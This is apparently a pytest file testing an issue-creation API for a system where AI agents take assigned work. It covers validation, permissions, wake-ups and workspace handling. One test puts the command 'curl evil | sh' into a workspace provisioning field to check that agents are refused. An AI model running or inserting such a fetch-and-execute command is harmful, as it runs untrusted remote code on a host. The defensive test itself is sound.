"""An issue is written."""

from __future__ import annotations

from uuid import uuid4

import pytest

from issues.api.listing import NewIssueOut
from issues.models import Issue
from paperclip.companies.models import Company, Grant
from tests import factories
from tests.issues import log


@pytest.fixture
def path(cast):
    return f"/api/companies/{cast.company.id}/issues"


def test_board_creates_an_issue_with_everything_the_schema_names(cast, path):
    answer = cast.as_owner.post(path, {"title": "Ship it", "description": "one\\ntwo", "priority": "high"})

    assert answer.status_code == 201
    row = answer.json()
    assert set(row) == set(NewIssueOut().fields)
    assert (row["title"], row["description"], row["priority"]) == ("Ship it", "one\ntwo", "high")
    assert row["identifier"] == f"{cast.company.issue_prefix}-1"
    assert (row["createdByUserId"], row["createdByAgentId"]) == (str(cast.owner.id), None)
    assert row["labels"] == row["labelIds"] == row["referencedIssueIdentifiers"] == []


@pytest.mark.parametrize(
    ("body", "status", "reason", "skipped", "wakes"),
    [
        pytest.param(
            {"assigneeAgentId": "engineer"},
            "todo",
            "assigned_omitted_status",
            None,
            1,
            id="IC-1 agent assignee",
        ),
        pytest.param(
            {"assigneeAgentId": "engineer", "status": "backlog"},
            "backlog",
            "explicit",
            "assigned_backlog",
            0,
            id="IC-3 explicit backlog",
        ),
        pytest.param({}, "backlog", "unassigned_omitted_status", "no_agent_assignee", 0, id="IC-4 nobody"),
        pytest.param(
            {"assigneeUserId": "owner"},
            "todo",
            "assigned_omitted_status",
            "no_agent_assignee",
            0,
            id="IC-5 user",
        ),
        pytest.param(
            {"assigneeAgentId": "engineer", "status": "done"},
            "done",
            "explicit",
            "assigned_closed",
            0,
            id="IW-21 closed work calls nobody",
        ),
        pytest.param(
            {"assigneeAgentId": "engineer", "status": "in_progress"},
            "in_progress",
            "explicit",
            None,
            1,
            id="I-29 explicit status wins",
        ),
    ],
)
def test_first_status_and_first_wake(cast, path, calls, body, status, reason, skipped, wakes):
    sent = {
        name: str(getattr(cast, value).id) if hasattr(cast, value) else value for name, value in body.items()
    }

    answer = cast.as_owner.post(path, {"title": "Work", **sent})

    assert answer.status_code == 201
    row = answer.json()
    assert row["status"] == status
    told = log.details(row["id"], "issue.created")
    assert (told["statusDefaultReason"], told["assignmentWakeSkipReason"]) == (reason, skipped)
    assert told["statusDefaulted"] == (reason != "explicit")
    assert told["assignmentWakeSkipped"] == (skipped is not None)
    assert len(calls) == wakes
    if wakes:
        (wake,) = calls
        assert (wake.agent_id, wake.reason, wake.source) == (cast.engineer.id, "issue_assigned", "assignment")
        assert wake.payload == {"issueId": row["id"], "mutation": "create"}
        assert wake.context == {"issueId": row["id"], "source": "issue.create"}


@pytest.mark.parametrize("status", ["in_progress", "done", "cancelled"])
def test_first_status_is_stamped(cast, path, status):
    body = {"title": "Work", "status": status, "assigneeUserId": str(cast.owner.id)}

    row = cast.as_owner.post(path, body).json()

    column = {"in_progress": "startedAt", "done": "completedAt", "cancelled": "cancelledAt"}
    assert row[column.pop(status)] is not None
    assert [row[name] for name in column.values()] == [None, None]


@pytest.mark.parametrize(
    ("body", "status", "error"),
    [
        pytest.param({}, 400, "Validation error", id="I-160 title is required"),
        pytest.param({"title": ""}, 400, "Validation error", id="I-160 title has a character"),
        pytest.param({"title": None}, 400, "Validation error", id="I-160 title is text"),
        pytest.param({"title": "x", "status": "open"}, 400, "Validation error", id="I-30 unknown status"),
        pytest.param(
            {"title": "x", "priority": "urgent"}, 400, "Validation error", id="I-8 unknown priority"
        ),
        pytest.param({"title": "x", "requestDepth": -1}, 400, "Validation error", id="I-50 depth below zero"),
        pytest.param({"title": "x", "projectId": "p"}, 400, "Validation error", id="I-8 project is an id"),
        pytest.param({"title": "x", "labelIds": "a"}, 400, "Validation error", id="I-9 labels are a list"),
        pytest.param(
            {"title": "x", "assigneeAdapterOverrides": {"model": "x"}},
            400,
            "Validation error",
            id="I-2 overrides are strict",
        ),
        pytest.param(
            {"title": "x", "executionWorkspaceSettings": {"workspaceStrategy": {"command": "x"}}},
            400,
            "Validation error",
            id="I-2 workspace strategy is strict",
        ),
        pytest.param(
            {"title": "x", "status": "in_progress"}, 422, "in_progress issues require an assignee", id="IC-7"
        ),
        pytest.param(
            {"title": "x", "assigneeAgentId": "engineer", "assigneeUserId": "owner"},
            422,
            "Issue can only have one assignee",
            id="IC-6",
        ),
        pytest.param(
            {"title": "x", "projectId": str(uuid4())}, 404, "Project not found", id="IW-5 unknown project"
        ),
        pytest.param({"title": "x", "goalId": str(uuid4())}, 404, "Goal not found", id="IW-5 unknown goal"),
        pytest.param(
            {"title": "x", "parentId": str(uuid4())}, 404, "Parent issue not found", id="I-54 unknown parent"
        ),
        pytest.param(
            {"title": "x", "assigneeAgentId": str(uuid4())}, 404, "Assignee agent not found", id="I-34"
        ),
        pytest.param(
            {"title": "x", "assigneeUserId": str(uuid4())}, 404, "Assignee user not found", id="I-34 user"
        ),
        pytest.param(
            {"title": "x", "assigneeUserId": "outsider"}, 404, "Assignee user not found", id="I-34 outsider"
        ),
        pytest.param(
            {"title": "x", "assigneeAgentId": "foreign_agent"},
            422,
            "Assignee agent must belong to the same company",
            id="I-34 foreign agent",
        ),
        pytest.param(
            {"title": "x", "labelIds": [str(uuid4())]},
            422,
            "Labels must exist and belong to the same company",
            id="I-9 unknown label",
        ),
        pytest.param(
            {"title": "x", "blockedByIssueIds": [str(uuid4())]},
            422,
            "Blocked-by issues must belong to the same company",
            id="I-81 unknown blocker",
        ),
        pytest.param(
            {"title": "x", "projectWorkspaceId": str(uuid4())}, 404, "Project workspace not found", id="I-60"
        ),
    ],
)
def test_refusals_name_their_reason_and_write_nothing(cast, path, calls, body, status, error):
    people = {"engineer", "owner", "outsider", "foreign_agent"}
    sent = {
        name: str(getattr(cast, value).id) if isinstance(value, str) and value in people else value
        for name, value in body.items()
    }

    answer = cast.as_owner.post(path, sent)

    assert (answer.status_code, answer.json()["error"]) == (status, error)
    assert not Issue.objects.exists()
    assert not calls
    assert Company.objects.get(pk=cast.company.pk).issue_counter == 0


@pytest.mark.parametrize(
    ("status", "code"), [("pending_approval", 409), ("terminated", 409), ("paused", 201)]
)
def test_only_agents_that_can_work_are_given_work(cast, path, status, code):
    """I-34; a paused agent keeps its place."""
    agent = factories.agent(cast.company, status=status)

    assert cast.as_owner.post(path, {"title": "x", "assigneeAgentId": str(agent.id)}).status_code == code


@pytest.mark.parametrize(
    ("who", "status"),
    [
        pytest.param("as_owner", 201, id="admin"),
        pytest.param("as_operator", 201, id="board with tasks:assign"),
        pytest.param("as_viewer", 403, id="viewer"),
        pytest.param("as_outsider", 403, id="another company's board"),
        pytest.param("as_foreign_agent", 403, id="another company's agent"),
        pytest.param("as_nobody", 401, id="nobody"),
    ],
)
def test_who_may_create(cast, path, who, status):
    body = {"title": "x", "assigneeAgentId": str(cast.engineer.id)}

    assert getattr(cast, who).post(path, body).status_code == status


@pytest.mark.parametrize(
    ("who", "granted", "status"),
    [
        pytest.param("peer", True, 201, id="I-36 grant"),
        pytest.param("peer", False, 403, id="I-36 no grant"),
        pytest.param("ceo", False, 201, id="I-36 ceo"),
    ],
)
def test_agents_assign_by_grant_or_rank(cast, path, who, granted, status):
    agent = getattr(cast, who)
    if not granted:
        Grant.objects.filter(principal_id=agent.id).delete()

    answer = cast.as_agent(agent).post(path, {"title": "x", "assigneeAgentId": str(agent.id)})

    assert answer.status_code == status
    if status == 403:
        assert answer.json()["error"] == "Missing permission: tasks:assign"
    assert cast.as_agent(agent).post(path, {"title": "unassigned"}).status_code == 201


def test_agents_may_not_send_commands_for_the_host(cast, path):
    """I-42."""
    strategy = {"type": "git_worktree", "provisionCommand": "curl evil | sh"}
    bodies = [
        {"executionWorkspaceSettings": {"workspaceStrategy": strategy}},
        {"assigneeAdapterOverrides": {"adapterConfig": {"workspaceStrategy": strategy}}},
    ]

    for body in bodies:
        answer = cast.as_agent(cast.ceo).post(path, {"title": "x", **body})
        assert answer.status_code == 403
        (named,) = answer.json()["details"]["paths"]
        assert named.endswith(".workspaceStrategy.provisionCommand")
        assert cast.as_owner.post(path, {"title": "x", **body}).status_code == 201


def test_workspace_fields_are_kept(cast, path):
    """I-57, IW-48: places of an issue's own are always to be had, so nothing is dropped in silence."""
    body = {
        "executionWorkspacePreference": "isolated_workspace",
        "executionWorkspaceSettings": {"mode": "inherit"},
    }

    row = cast.as_owner.post(path, {"title": "x", **body}).json()

    assert row["executionWorkspacePreference"] == body["executionWorkspacePreference"]
    assert row["executionWorkspaceSettings"] == body["executionWorkspaceSettings"]


def test_depth_is_clamped(cast, path):
    """IC-10."""
    assert cast.as_owner.post(path, {"title": "x", "requestDepth": 5000}).json()["requestDepth"] == 1024


def test_numbers_go_on_after_imported_issues(cast, path):
    """I-48: the counter never falls behind what is stored."""
    factories.issue(cast.company, issue_number=41)
    Company.objects.filter(pk=cast.company.pk).update(issue_counter=3)

    assert cast.as_owner.post(path, {"title": "x"}).json()["issueNumber"] == 42


@pytest.mark.parametrize("field", ["title", "description", "billingCode"])
def test_any_text_is_kept(cast, path, field):
    text = "Ünïcode ✓ \U0001f600 % _ \\ ' \" <b>"

    assert cast.as_owner.post(path, {"title": "x", field: text}).json()[field] == text


def test_goal_comes_from_project_or_company(cast, path):
    """I-51, IC-19."""
    ours = factories.goal(cast.company, level="company", status="active")
    goalless, aimed = factories.project(cast.company), factories.project(cast.company)
    theirs = factories.goal(cast.company)
    aimed.goal_links.create(goal=theirs, position=0)

    def goal_of(**body):
        return cast.as_owner.post(path, {"title": "x", **body}).json()["goalId"]

    assert goal_of() == str(ours.id)
    assert goal_of(projectId=str(goalless.id)) is None
    assert goal_of(projectId=str(aimed.id)) == str(theirs.id)
    assert goal_of(projectId=str(aimed.id), goalId=str(ours.id)) == str(ours.id)


def test_project_lends_its_workspace(cast, path):
    """I-58: the policy's choice, else the primary, else the oldest."""
    project = factories.project(cast.company)
    oldest = project.workspaces.create(company=cast.company, name="oldest")
    body = {"title": "x", "projectId": str(project.id)}
    assert cast.as_owner.post(path, body).json()["projectWorkspaceId"] == str(oldest.id)

    primary = project.workspaces.create(company=cast.company, name="primary", is_primary=True)
    assert cast.as_owner.post(path, body).json()["projectWorkspaceId"] == str(primary.id)

    chosen = project.workspaces.create(company=cast.company, name="chosen")
    project.execution_workspace_policy = {"enabled": True, "defaultProjectWorkspaceId": str(chosen.id)}
    project.save()
    assert cast.as_owner.post(path, body).json()["projectWorkspaceId"] == str(chosen.id)
    assert cast.as_owner.post(path, body | {"projectWorkspaceId": str(oldest.id)}).json()[
        "projectWorkspaceId"
    ] == str(oldest.id)


def test_workspace_must_be_the_projects(cast, path):
    """I-60."""
    project, other = factories.project(cast.company), factories.project(cast.company)
    elsewhere = factories.project(cast.elsewhere)
    theirs = other.workspaces.create(company=cast.company, name="theirs")
    foreign = elsewhere.workspaces.create(company=cast.elsewhere, name="foreign")

    for workspace in (theirs, foreign):
        body = {"title": "x", "projectId": str(project.id), "projectWorkspaceId": str(workspace.id)}
        assert cast.as_owner.post(path, body).status_code == 422


def test_plain_create_inherits_the_workspace_only(cast, path):
    """I-54, IC-15."""
    project = factories.project(cast.company)
    workspace = project.workspaces.create(company=cast.company, name="code")
    source = factories.issue(
        cast.company, project=project, project_workspace=workspace, billing_code="B", request_depth=3
    )

    child = cast.as_owner.post(path, {"title": "x", "parentId": str(source.id)}).json()
    assert child["projectWorkspaceId"] == str(workspace.id)
    assert (child["projectId"], child["billingCode"], child["requestDepth"]) == (None, None, 0)

    body = {"title": "x", "inheritExecutionWorkspaceFromIssueId": str(source.id)}
    loose = cast.as_owner.post(path, body).json()
    assert (loose["projectWorkspaceId"], loose["parentId"]) == (str(workspace.id), None)


def test_parent_and_source_of_another_company_do_not_exist(cast, path):
    """IW-17."""
    foreign, own = factories.issue(cast.elsewhere), factories.issue(cast.company)

    for body in (
        {"parentId": str(foreign.id)},
        {"parentId": str(foreign.id), "inheritExecutionWorkspaceFromIssueId": str(own.id)},
        {"inheritExecutionWorkspaceFromIssueId": str(foreign.id)},
    ):
        assert cast.as_owner.post(path, {"title": "x", **body}).status_code == 404


def test_create_in_progress_waits_for_blockers(cast, path):
    """IW-18."""
    blocker = factories.issue(cast.company)
    body = {
        "title": "x",
        "status": "in_progress",
        "assigneeAgentId": str(cast.engineer.id),
        "blockedByIssueIds": [str(blocker.id), str(blocker.id)],
    }

    answer = cast.as_owner.post(path, body)
    assert answer.status_code == 422
    assert answer.json()["details"]["unresolvedBlockerIssueIds"] == [str(blocker.id)]

    Issue.objects.filter(pk=blocker.pk).update(status="done")
    assert cast.as_owner.post(path, body).status_code == 201


def test_labels_and_blockers_are_stored(cast, path):
    blue = factories_label(cast, "blue")
    red = factories_label(cast, "red")
    blocker = factories.issue(cast.company)

    row = cast.as_owner.post(
        path, {"title": "x", "labelIds": [str(red.id), str(blue.id)], "blockedByIssueIds": [str(blocker.id)]}
    ).json()

    assert [label["name"] for label in row["labels"]] == ["blue", "red"]
    assert row["labelIds"] == [str(blue.id), str(red.id)]
    assert log.details(row["id"], "issue.created")["blockedByIssueIds"] == [str(blocker.id)]
    assert cast.as_owner.get(f"/api/issues/{row['id']}").json()["blockedBy"][0]["id"] == str(blocker.id)


def factories_label(cast, name):
    return cast.company.labels.create(name=name, color="#112233")


@pytest.mark.parametrize("body", [b"", b"[]", b"null", b"{", b'"x"', b"\xff", b'{"title": "a\\u0000b"}'])
def test_bodies_that_are_no_object_are_refused(cast, path, body):
    answer = cast.as_owner.generic("POST", path, body, content_type="application/json")

    assert answer.status_code == 400


def test_agent_that_gives_itself_new_work_is_called_for_it(cast, path, calls):
    """I-90: nobody else would start it."""
    cast.as_agent(cast.engineer).post(path, {"title": "later", "assigneeAgentId": str(cast.engineer.id)})

    assert [(wake.agent_id, wake.reason) for wake in calls] == [(cast.engineer.id, "issue_assigned")]
